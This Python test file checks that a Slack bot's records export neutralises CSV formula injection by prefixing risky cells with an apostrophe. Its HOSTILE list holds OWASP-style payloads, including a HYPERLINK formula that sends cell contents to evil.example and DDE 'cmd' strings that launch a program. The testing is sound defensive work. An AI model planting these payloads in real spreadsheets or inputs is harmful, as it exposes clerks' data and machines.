"""The records export is safe to open in a spreadsheet: text from the public never becomes a formula.

Mentions are written by anyone; the CSV goes by DM to the clerks who open it in a spreadsheet.
By default every cell a spreadsheet would read as a formula starts with an added apostrophe
(docs/security.md); `--raw` (and `/twoway export ... raw`) keep the text verbatim, as JSONL does.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from bot.core.context import Context
from bot.supervision.export import build_export, day_bounds, neutralise
from storage.models import AuditEvent, Reply
from tests.conftest import FakeClock
from tests.support.fakes.slack_api import FakeSlack
from tests.support.rows import CHANNEL, add_account, add_mention, slack_client

# What attackers post, after OWASP's CSV-injection examples.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click here")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1dSUM(1,1)",
    "'=1+1 already quoted",
    'a harmless start,"=1+1" after a comma and a quote',  # stays one cell: nothing to neutralise
]
LEADING = HOSTILE[:-1]
DAY = date(2026, 11, 20)


def _hostile_history(session: Session, clock: FakeClock) -> list[int]:
    """A mention per hostile text, with the same text as author name, handle, reply and reason."""
    account = add_account(session, clock.now())
    ids = []
    for n, text in enumerate(HOSTILE):
        mention = add_mention(
            session,
            account,
            clock.now() - timedelta(hours=1, minutes=n),
            text=text,
            state="dismissed",
            dismissed_reason=text,
            urgent_reason=text,
        )
        mention.author_name = text
        mention.author_handle = text
        session.add(
            Reply(
                mention_id=mention.id,
                text=text,
                source="edited",
                status="sent",
                requested_by="U0OFFICER",
                requested_at=clock.now(),
            )
        )
        ids.append(mention.id)
    session.flush()
    return ids


def _csv(ctx: Context, raw: bool = False, fmt: str = "csv") -> str:
    start, end = day_bounds(DAY, DAY, ZoneInfo("UTC"))
    return "".join(build_export(ctx.sessions, start, end, fmt, raw))


def open_in_spreadsheet(text: str) -> Any:
    """Load the CSV into a workbook the way a spreadsheet imports it, save it, and open it again.

    openpyxl types each cell as a spreadsheet does on import: a text starting with `=` becomes a
    formula. The saved and re-read workbook is what a clerk would have in front of them.
    """
    book = openpyxl.Workbook()
    sheet = book.active
    for row in csv.reader(io.StringIO(text, newline="")):
        sheet.append(row)
    saved = io.BytesIO()
    book.save(saved)
    saved.seek(0)
    return openpyxl.load_workbook(saved).active


def _formulas(sheet: Any) -> list[str]:
    return [f"{c.coordinate}: {c.value!r}" for row in sheet.iter_rows() for c in row if c.data_type == "f"]


STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")


def _formula_like(sheet: Any) -> list[str]:
    """Cells Excel, LibreOffice or Google Sheets would also run: they start formulas with + - @ too."""
    found = []
    for row in sheet.iter_rows():
        for c in row:
            value = c.value if isinstance(c.value, str) else ""
            if value[:1] in ("\t", "\r") or value.lstrip()[:1] in STARTS:
                found.append(f"{c.coordinate}: {value!r}")
    return found


def test_a_spreadsheet_finds_no_formula_in_the_csv(ctx: Context, clock: FakeClock) -> None:
    with ctx.transaction() as session:
        ids = _hostile_history(session, clock)
    exported = _csv(ctx)
    sheet = open_in_spreadsheet(exported)

    assert sheet.max_row == len(HOSTILE) + 1
    assert _formulas(sheet) == []
    assert _formula_like(sheet) == []

    # Nothing is lost: removing the one added apostrophe gives back every text exactly.
    rows = {int(r["mention_id"]): r for r in csv.DictReader(io.StringIO(exported, newline=""))}
    for mention_id, text in zip(ids, HOSTILE, strict=True):
        row = rows[mention_id]
        for column in ("text_as_ingested", "author_name", "author_handle", "reply_text", "dismissed_reason"):
            cell = row[column]
            assert cell == ("'" + text if text in LEADING else text), (column, cell)


def test_the_raw_csv_keeps_the_text_and_the_same_check_finds_the_formulas(
    ctx: Context, clock: FakeClock
) -> None:
    with ctx.transaction() as session:
        _hostile_history(session, clock)
    raw = open_in_spreadsheet(_csv(ctx, raw=True))
    assert _formulas(raw), "the check would not see a formula"
    texts = [r["text_as_ingested"] for r in csv.DictReader(io.StringIO(_csv(ctx, raw=True), newline=""))]
    assert sorted(texts) == sorted(HOSTILE)


def test_jsonl_stays_verbatim(ctx: Context, clock: FakeClock) -> None:
    with ctx.transaction() as session:
        _hostile_history(session, clock)
    records = [json.loads(line) for line in _csv(ctx, fmt="jsonl").splitlines()]
    assert sorted(r["text_as_ingested"] for r in records) == sorted(HOSTILE)
    assert sorted(r["author_name"] for r in records) == sorted(HOSTILE)


@pytest.mark.parametrize(
    ("cell", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" \n =x", "' \n =x"),
        ("\uff20x", "'\uff20x"),
        ("'quoted", "''quoted"),
        ("Thanks, officer = hero", "Thanks, officer = hero"),
        ("email me at a@b.example", "email me at a@b.example"),
        ("", ""),
        ("2026-11-20T10:00:00Z", "2026-11-20T10:00:00Z"),
        ("[]", "[]"),
    ],
)
def test_the_documented_rule(cell: str, exported: str) -> None:
    assert neutralise(cell) == exported


def test_the_rule_is_written_in_the_security_doc() -> None:
    from tests.conftest import REPO

    doc = (REPO / "docs" / "security.md").read_text(encoding="utf-8")
    assert "--raw" in doc
    for words in ("`=`", "`+`", "`-`", "`@`", "tab", "carriage return", "apostrophe", "every cell"):
        assert words in doc, words


# -- the CLI and Slack ------------------------------------------------------------------------------


def _cli(db_url: str, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TWOWAY_", "SLACK_", "DATABASE_URL"))}
    env["DATABASE_URL"] = db_url
    return subprocess.run(
        [sys.executable, "-m", "bot", "export", "--since", "2026-11-20", "--until", "2026-11-20", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=60,
        check=False,
    )


def test_cli_neutralises_by_default_and_raw_says_what_it_is(
    ctx: Context, clock: FakeClock, db_url: str, tmp_path: Path
) -> None:
    with ctx.transaction() as session:
        _hostile_history(session, clock)
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    done = _cli(db_url, tmp_path, "--out", str(safe))
    assert done.returncode == 0, done.stderr
    assert "begin with an added '" in done.stderr
    assert _formulas(open_in_spreadsheet(safe.read_text(encoding="utf-8"))) == []

    done = _cli(db_url, tmp_path, "--out", str(raw), "--raw")
    assert done.returncode == 0, done.stderr
    assert "raw: cells exactly as written" in done.stderr
    with raw.open(encoding="utf-8", newline="") as f:
        texts = sorted(r["text_as_ingested"] for r in csv.DictReader(f))
    assert texts == sorted(HOSTILE)
    with ctx.transaction() as session:
        events = list(session.scalars(select(AuditEvent).where(AuditEvent.action == "exported")))
    assert [e.details.get("raw") for e in events] == [None, True]


def test_slack_export_is_safe_unless_an_admin_asks_for_raw(ctx: Context, clock: FakeClock) -> None:
    from bot.app.wiring import COMMANDS
    from bot.slack.commands import run_command
    from storage import staff

    with FakeSlack() as fake:
        ctx.slack = slack_client(fake)
        with ctx.transaction() as session:
            staff.set_role(session, "U0ADMIN", "admin", by="test", now=clock.now())
            _hostile_history(session, clock)

        def export(text: str) -> Any:
            reply = run_command(
                ctx, COMMANDS, {"text": text, "user_id": "U0ADMIN", "channel_id": CHANNEL, "response_url": ""}
            )
            assert reply.after is not None, reply.text
            reply.after()
            return reply, fake.files[-1]

        reply, safe = export("export 2026-11-20 2026-11-20")
        assert "begin with an added `'`" in str(safe["initial_comment"])
        assert _formulas(open_in_spreadsheet(safe["data"].decode("utf-8"))) == []

        reply, raw = export("export 2026-11-20 2026-11-20 csv raw")
        assert "as raw CSV" in reply.text
        assert raw["filename"] == "twoway-export-2026-11-20-to-2026-11-20-raw.csv"
        assert "do not open it in a spreadsheet" in str(raw["initial_comment"])
        assert _formulas(open_in_spreadsheet(raw["data"].decode("utf-8")))
